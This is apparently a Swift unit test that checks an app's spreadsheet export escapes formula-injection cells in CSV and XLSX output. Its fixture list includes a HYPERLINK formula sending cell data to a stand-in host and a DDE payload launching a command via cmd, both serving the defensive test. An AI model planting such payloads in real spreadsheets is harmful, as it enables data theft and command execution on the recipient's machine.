import Foundation
import Testing

@testable import AnToanApp

/// Formula injection: cells that a spreadsheet program would run are written as text by both writers.
@Suite("Spreadsheet formulas")
struct SpreadsheetCellTests {
    static let hostile = [
        #"=HYPERLINK("http://evil.example/?x="&A1,"Bấm")"#, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
        "\tx", "\rx",
    ]

    @Test("a cell starting with = + - @ tab or CR gets a leading apostrophe; numbers and text stay as they are")
    func neutralised() {
        for cell in Self.hostile {
            #expect(SpreadsheetCell.neutralised(cell) == "'" + cell)
        }
        for cell in ["-12.5", "+84912345678", "-3", "Nguyễn Văn Đức", "a=b", "", "'=kept"] {
            #expect(SpreadsheetCell.neutralised(cell) == cell)
        }
        // and an import reads a neutralised cell as it was
        for cell in Self.hostile + ["-12.5", "'x", "Lê"] {
            #expect(SpreadsheetCell.restored(SpreadsheetCell.neutralised(cell)) == cell)
        }
    }

    @Test("CSV and XLSX files read back with every hostile cell neutralised")
    func writers() throws {
        let table = SpreadsheetTable(name: "Danh sách", rows: [["Họ và tên"]] + Self.hostile.map { [$0] })
        let expected = [["Họ và tên"]] + Self.hostile.map { ["'" + $0] }
        #expect(try CSVReader.read(CSVWriter.write(table)).rows == expected)
        // XML reads a carriage return as a line feed.
        let lines = expected.map { $0.map { $0.replacingOccurrences(of: "\r", with: "\n") } }
        #expect(try XLSXReader.read(XLSXWriter.write([table])).first?.rows == lines)
    }
}
